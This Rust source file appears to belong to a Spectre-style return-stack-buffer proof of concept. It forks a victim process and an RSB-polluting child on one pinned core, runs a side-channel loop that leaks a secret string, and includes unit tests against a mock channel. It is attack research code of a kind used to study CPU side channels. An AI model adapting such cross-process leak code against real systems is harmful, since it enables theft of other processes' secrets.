//! Cross-process coordination.
//!
//! The victim and the polluter are two processes pinned to the same core,
//! so the only thing interleaving them is the scheduler (and the explicit
//! yields at the bottom of each recursion). They share no memory. The
//! polluter only needs to know one thing about the victim: whether it is
//! still around.

use std::io::Write;
use std::os::fd::RawFd;
use nix::errno::Errno;
use nix::fcntl::{ fcntl, FcntlArg, OFlag };
use nix::sys::signal::{ kill, Signal };
use nix::sys::wait::waitpid;
use nix::unistd::{ fork, getpid, getppid, pipe, close, read, ForkResult, Pid };

use crate::cache::{ LineFlush, Clflush };
use crate::config::{ LeakConfig, LivenessKind, Variant };
use crate::error::{ LeakError, Result, EXIT_SUCCESS };
use crate::gadget::SecretAccess;
use crate::leak::LeakLoop;
use crate::oracle::Oracle;
use crate::pollute::Pollution;
use crate::sidechannel::SideChannel;
use crate::util::RsbEnv;

/// Implemented on types which tell the polluter whether the victim is
/// still running.
pub trait Liveness {
    fn victim_alive(&self) -> bool;
}

/// The victim is the polluter's parent: once it exits, the polluter is
/// reparented and `getppid()` changes.
pub struct ParentPid {
    victim: Pid,
}
impl ParentPid {
    pub fn new(victim: Pid) -> Self { Self { victim } }
}
impl Liveness for ParentPid {
    fn victim_alive(&self) -> bool {
        getppid() == self.victim
    }
}

/// Read end of a pipe whose only write end belongs to the victim.
///
/// When the victim drops its [CompletionToken] (or exits, and the kernel
/// drops it for us), reads on this end return EOF.
pub struct PipeLiveness {
    fd: RawFd,
}

/// Write end of the liveness pipe. Nothing is ever written to it.
pub struct CompletionToken {
    fd: RawFd,
}

impl PipeLiveness {
    /// Create a liveness pipe.
    pub fn channel() -> Result<(PipeLiveness, CompletionToken)> {
        let (rd, wr) = pipe().map_err(LeakError::os("pipe"))?;
        let res = (PipeLiveness { fd: rd }, CompletionToken { fd: wr });
        fcntl(rd, FcntlArg::F_SETFL(OFlag::O_NONBLOCK))
            .map_err(LeakError::os("fcntl"))?;
        Ok(res)
    }
}
impl Liveness for PipeLiveness {
    fn victim_alive(&self) -> bool {
        let mut buf = [0u8; 1];
        match read(self.fd, &mut buf) {
            Ok(0) => false,
            Ok(_) => true,
            Err(Errno::EAGAIN) | Err(Errno::EINTR) => true,
            Err(_) => false,
        }
    }
}
impl Drop for PipeLiveness {
    fn drop(&mut self) {
        let _ = close(self.fd);
    }
}
impl Drop for CompletionToken {
    fn drop(&mut self) {
        let _ = close(self.fd);
    }
}

/// Run `always_false` until the victim goes away.
///
/// Liveness is checked once per pass, so the polluter outlives the victim
/// by at most one `always_false(depth)`. Returns the number of passes.
pub fn pollute_until_gone<F, L>(p: &Pollution<'_, F>, liveness: &L) -> usize
    where F: LineFlush, L: Liveness + ?Sized
{
    let mut passes = 0;
    loop {
        p.always_false(p.depth());
        passes += 1;
        if !liveness.victim_alive() {
            return passes;
        }
    }
}

/// Splits into a victim and a polluter sharing one core.
pub struct Coordinator {
    cfg: LeakConfig,
}

impl Coordinator {
    /// Both roles have to share one logical core, so `cfg` must name one.
    pub fn new(cfg: LeakConfig) -> Result<Self> {
        let cfg = cfg.variant(Variant::CrossProcess);
        cfg.validate()?;
        if cfg.pinned_core.is_none() {
            return Err(LeakError::InvalidConfig(
                "victim and polluter must be pinned to a core".to_string()
            ));
        }
        Ok(Self { cfg })
    }

    pub fn config(&self) -> &LeakConfig { &self.cfg }

    /// Pin, fork, and leak `secret` from the parent while the child
    /// pollutes the RSB.
    ///
    /// `make_channel` runs in the victim only, after the fork.
    /// This never returns in the child.
    pub fn run<C, W>(&self, secret: &[u8],
        make_channel: impl FnOnce() -> Result<C>,
        out: &mut W,
    ) -> Result<Vec<u8>>
        where C: SideChannel, W: Write
    {
        let victim = getpid();

        // The polluter inherits the affinity mask.
        if let Some(core) = self.cfg.pinned_core {
            RsbEnv::pin_to_core(core)?;
        }

        let (liveness, token): (Box<dyn Liveness>, Option<CompletionToken>) =
            match self.cfg.liveness {
                LivenessKind::Pipe => {
                    let (rd, wr) = PipeLiveness::channel()?;
                    (Box::new(rd) as Box<dyn Liveness>, Some(wr))
                },
                LivenessKind::ParentPid => {
                    (Box::new(ParentPid::new(victim)) as Box<dyn Liveness>, None)
                },
            };

        // Don't let the child inherit anything still buffered.
        out.flush()?;

        match unsafe { fork() }.map_err(LeakError::os("fork"))? {
            ForkResult::Child => {
                drop(token);
                let code = match self.polluter(secret, liveness.as_ref()) {
                    Ok(passes) => {
                        log::debug!("victim gone after {} passes", passes);
                        EXIT_SUCCESS
                    },
                    Err(e) => {
                        log::error!("polluter: {}", e);
                        e.exit_code()
                    },
                };
                std::process::exit(code);
            },
            ForkResult::Parent { child } => {
                drop(liveness);
                log::info!("victim {} forked polluter {}", victim, child);

                let res = self.victim(secret, make_channel, out);

                // Tell the polluter we're done, then reap it. Without a
                // token, the polluter would only notice once we exit.
                match token {
                    Some(token) => drop(token),
                    None => {
                        let _ = kill(child, Signal::SIGTERM);
                    },
                }
                let reaped = waitpid(child, None).map_err(LeakError::os("waitpid"));
                let leaked = res?;
                reaped?;
                Ok(leaked)
            },
        }
    }

    fn polluter(&self, secret: &[u8], liveness: &dyn Liveness) -> Result<usize> {
        let oracle = Oracle::new()?;
        let gadget = SecretAccess::new(&oracle, secret, 0);
        let pollution = Pollution::new(gadget, &Clflush, &self.cfg)?;
        Ok(pollute_until_gone(&*pollution, liveness))
    }

    fn victim<C, W>(&self, secret: &[u8],
        make_channel: impl FnOnce() -> Result<C>,
        out: &mut W,
    ) -> Result<Vec<u8>>
        where C: SideChannel, W: Write
    {
        let mut leak = LeakLoop::new(make_channel()?, secret, self.cfg)?;
        leak.leak_and_report(out)
    }
}

#[cfg(test)]
mod test {
    use super::*;
    use crate::leak::test::MockChannel;
    use nix::sched::{ sched_getaffinity, CpuSet };
    use std::cell::Cell;
    use std::sync::atomic::{ AtomicBool, Ordering };
    use std::sync::{ mpsc, Arc, Mutex, MutexGuard };
    use std::thread;
    use std::time::Duration;

    /// A forked child inherits every pipe open in the test binary, and
    /// keeps the write end alive until it exits. Tests that create pipes or
    /// fork take this first.
    static PIPES: Mutex<()> = Mutex::new(());

    fn pipes() -> MutexGuard<'static, ()> {
        PIPES.lock().unwrap_or_else(|e| e.into_inner())
    }

    /// Reports the victim alive for the first `n` checks.
    struct Countdown {
        remaining: Cell<usize>,
        checks: Cell<usize>,
    }
    impl Countdown {
        fn new(n: usize) -> Self {
            Self { remaining: Cell::new(n), checks: Cell::new(0) }
        }
    }
    impl Liveness for Countdown {
        fn victim_alive(&self) -> bool {
            self.checks.set(self.checks.get() + 1);
            match self.remaining.get() {
                0 => false,
                n => { self.remaining.set(n - 1); true },
            }
        }
    }

    #[test]
    fn polluter_stops_one_pass_after_exit() {
        let oracle = Oracle::new().unwrap();
        let gadget = SecretAccess::new(&oracle, b"x", 0);
        let cfg = LeakConfig::default_cross_process().recursion_depth(16);
        let p = Pollution::new(gadget, &Clflush, &cfg).unwrap();
        for alive_for in [0, 1, 5] {
            let live = Countdown::new(alive_for);
            let passes = pollute_until_gone(&*p, &live);
            assert_eq!(passes, alive_for + 1);
            assert_eq!(live.checks.get(), alive_for + 1);
        }
    }

    #[test]
    fn pipe_signals_completion() {
        let _pipes = pipes();
        let (live, token) = PipeLiveness::channel().unwrap();
        assert!(live.victim_alive());
        assert!(live.victim_alive());
        drop(token);
        assert!(!live.victim_alive());
    }

    #[test]
    fn parent_pid() {
        assert!(ParentPid::new(getppid()).victim_alive());
        assert!(!ParentPid::new(getpid()).victim_alive());
    }

    /// Drops the completion token from another thread, then reports how
    /// many liveness checks still saw the victim after it was gone.
    struct AfterSignal<'l> {
        inner: &'l PipeLiveness,
        signalled: &'l AtomicBool,
        stale: Cell<usize>,
    }
    impl Liveness for AfterSignal<'_> {
        fn victim_alive(&self) -> bool {
            let signalled = self.signalled.load(Ordering::SeqCst);
            let alive = self.inner.victim_alive();
            if signalled && alive {
                self.stale.set(self.stale.get() + 1);
            }
            alive
        }
    }

    #[test]
    fn polluter_stops_after_token_dropped() {
        let oracle = Oracle::new().unwrap();
        let gadget = SecretAccess::new(&oracle, b"x", 0);
        let cfg = LeakConfig::default_cross_process().recursion_depth(16);
        let p = Pollution::new(gadget, &Clflush, &cfg).unwrap();

        let _pipes = pipes();
        let (live, token) = PipeLiveness::channel().unwrap();
        let signalled = Arc::new(AtomicBool::new(false));
        let victim = {
            let signalled = signalled.clone();
            thread::spawn(move || {
                thread::sleep(Duration::from_millis(50));
                drop(token);
                signalled.store(true, Ordering::SeqCst);
            })
        };
        let observed = AfterSignal {
            inner: &live,
            signalled: &signalled,
            stale: Cell::new(0),
        };
        let passes = pollute_until_gone(&*p, &observed);
        victim.join().unwrap();

        assert!(passes >= 1);
        assert_eq!(observed.stale.get(), 0);
        assert!(!live.victim_alive());
    }

    /// Return a core this thread is allowed to run on.
    fn allowed_core() -> usize {
        let set = sched_getaffinity(Pid::from_raw(0)).unwrap();
        (0..CpuSet::count())
            .find(|&core| set.is_set(core).unwrap_or(false))
            .unwrap()
    }

    /// Run a whole cross-process leak (against a scripted side channel)
    /// on a fresh thread, and fail if it doesn't come back.
    fn leak_across_fork(kind: LivenessKind) {
        let _pipes = pipes();
        let (tx, rx) = mpsc::channel();
        thread::spawn(move || {
            let cfg = LeakConfig::default_cross_process()
                .recursion_depth(4)
                .pinned_core(Some(allowed_core()))
                .liveness(kind);
            let mut out = Vec::new();
            let res = Coordinator::new(cfg).and_then(|c| {
                c.run(b"AB", || Ok(MockChannel::new(b"AB", Some(0))), &mut out)
            });
            let _ = tx.send((res.map_err(|e| e.to_string()), out));
        });
        let (res, out) = rx.recv_timeout(Duration::from_secs(10))
            .unwrap_or_else(|_| panic!("{:?}: victim never returned", kind));
        assert_eq!(res.unwrap(), b"AB".to_vec());
        assert_eq!(out, b"Leaking the string: AB\nDone!\n".to_vec());
    }

    #[test]
    fn cross_process_leak_with_pipe() {
        leak_across_fork(LivenessKind::Pipe);
    }

    #[test]
    fn cross_process_leak_with_parent_pid() {
        leak_across_fork(LivenessKind::ParentPid);
    }

    #[test]
    fn coordinator_forces_cross_process() {
        let cfg = LeakConfig::default_single_process().pinned_core(Some(0));
        let c = Coordinator::new(cfg).unwrap();
        assert_eq!(c.config().variant, Variant::CrossProcess);
        assert!(Coordinator::new(cfg.recursion_depth(0)).is_err());
    }

    #[test]
    fn coordinator_requires_pinning() {
        let cfg = LeakConfig::default_cross_process().pinned_core(None);
        assert!(matches!(Coordinator::new(cfg),
            Err(LeakError::InvalidConfig(_))));
        assert!(Coordinator::new(cfg.pinned_core(Some(0))).is_ok());
    }
}
